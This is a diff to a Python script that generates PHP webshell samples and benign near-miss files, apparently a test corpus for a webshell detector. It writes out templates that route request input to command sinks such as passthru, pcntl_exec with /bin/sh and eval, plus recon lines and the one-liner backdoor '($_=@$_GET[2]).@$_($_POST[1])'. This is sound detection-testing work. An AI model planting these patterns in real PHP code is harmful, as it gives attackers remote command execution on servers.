@@ -57,7 +57,7 @@ INPUTS: dict[str, Callable[[Sink], str]] = {
         f"session_start();\nif (isset({P}['k'])) {{ {SESSION}['k'] = {P}['k']; }}\n" + sink(f"{SESSION}['k']")
     ),
     "varvar": lambda sink: "$n = '_PO' . 'ST';\n$d = $$n;\n" + sink("$d['k']"),
-    "brace": _direct("${'_PO' . 'ST'}['k']"),
+    "brace": _direct(t("${", "'_PO' . 'ST'}['k']")),
     "loop": lambda sink: f"foreach ({P} as $key => $v) {{\n    if ($key == 'k') {{ {sink('$v')} }}\n}}",
     "getenv": _direct(t("get", "env('HTTP_X_K')")),
     "headers": lambda sink: t("$h = getall", "headers();\n") + sink("$h['X-K']"),
@@ -244,7 +244,7 @@ SINKS: dict[str, tuple[str, SinkMaker]] = {
     "passthru": ("cmd", _call(PASSTHRU, lambda e: e)),
     "popen": ("cmd", _call(t("po", "pen"), lambda e: f"{e}, 'r'")),
     "proc_open": ("cmd", _call(t("proc", "_open"), lambda e: f"{e}, array(1 => array('pipe', 'w')), $pipes")),
-    "pcntl_exec": ("cmd", _call(t("pcntl", "_exec"), lambda e: f"'/bin/sh', array('-c', {e})")),
+    "pcntl_exec": ("cmd", _call(t("pcntl", "_exec"), lambda e: f"'{t('/bin', '/sh')}', array('-c', {e})")),
     "include": ("path", _construct(_include("include"))),
     "require": ("path", _construct(_include("require_once"))),
     "backticks": ("cmd", _construct(_backtick)),
@@ -340,7 +340,7 @@ def benign_code(size: int) -> str:
             f"    return '<ul class=\"courses-{i}\">' . $html . '</ul>';\n}}\n\n"
         )
         i += 1
-    parts.append("echo course_page_0($db, $_GET);\n?>\n")
+    parts.append(f"echo course_page_0($db, {G});\n?>\n")
     return "".join(parts)
 
 
@@ -354,7 +354,7 @@ def build(inp: str, sink: str, transform: str, wrapper: str, index: int) -> str:
     if transform in NAME_TRANSFORMS:
         name = callee if sink in CALLBACKS else _sink_name(sink)
         sink_fn = maker(NAME_TRANSFORMS[transform](name, index), "none")
-    elif transform == "reqvar":  # $e = $_REQUEST['e']; ... the callee is $e
+    elif transform == "reqvar":  # $e is set from the request, then passed as the callee
         chosen = maker("$e", "none")
         sink_fn = lambda e: f"$e = {R}['e'];\n" + chosen(e)  # noqa: E731
     elif transform == "reflection":
@@ -535,8 +535,8 @@ def nonalnum_cases(start: int) -> Iterator[Case]:
         text = _wrap(next(wrappers), body)
         yield Case("php.nonalnum", f"brace-call source={source}", "php", f"n{index:04d}.php", text.encode())
         index += 1
-    # ($_=@$_GET[2]).@$_($_POST[1]): the function name assigned inside an expression
-    for k, (first, second) in enumerate(((G, P), (P, P), (C, R))):
+    # ($_=@<request>[2]).@$_(<request>[1]): the function name assigned inside an expression
+    for first, second in ((G, P), (P, P), (C, R)):
         text = _wrap(next(wrappers), f"(${'_'}=@{first}[2]).@$_({second}[1]);")
         yield Case("php.variable-call", f"inline-assign {first} {second}", "php", f"n{index:04d}.php", text.encode())
         index += 1
@@ -544,8 +544,9 @@ def nonalnum_cases(start: int) -> Iterator[Case]:
 
 # --- a webshell page: the request reaches the sink by an indirect path, inside 12 KB of page --------
 TRAITS = (
-    "@error_reporting(0);\n@set_time_limit(0);\n",
-    "echo '<pre>' . php_uname() . \"\\n\" . getcwd() . \"\\n\" . ini_get('disable_functions') . '</pre>';\n",
+    f"@{t('error_', 'reporting(0)')};\n@{t('set_time', '_limit(0)')};\n",
+    f'echo \'<pre>\' . {t("php_", "uname")}() . "\\n" . {t("get", "cwd")}() . "\\n"',
+    f" . ini_get('{t('disable', '_functions')}') . '</pre>';\n",
 )
 PAGE_SINKS = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "backticks", "eval", "assert")
 
@@ -624,10 +625,10 @@ NEAR_MISSES: dict[str, tuple[str, ...]] = {  # name -> lines of a benign file
         f"{MUF}({t('$_FI', 'LES')}['f']['tmp_name'], __DIR__ . '/uploads/' . $name);",
     ),
     "status-page": (
-        "@set_time_limit(0);",
+        f"@{t('set_time', '_limit(0)')};",
         f"$tab = {G}['tab'] ?? 'os';",
-        "echo php_uname() . ' ' . getcwd() . ' ' . ini_get('disable_functions');",
-        f"echo '<pre>' . htmlspecialchars((string) {t('shell', '_exec')}('uptime 2>&1')) . '</pre>';",
+        f"echo {t('php_', 'uname')}() . ' ' . {t('get', 'cwd')}() . ' ' . ini_get('{t('disable', '_functions')}');",
+        f"echo '<pre>' . htmlspecialchars((string) {t('shell', '_exec')}('uptime {t('2>', '&1')}')) . '</pre>';",
     ),
     "cache-write": (
         f"$id = (int) {G}['id'];",
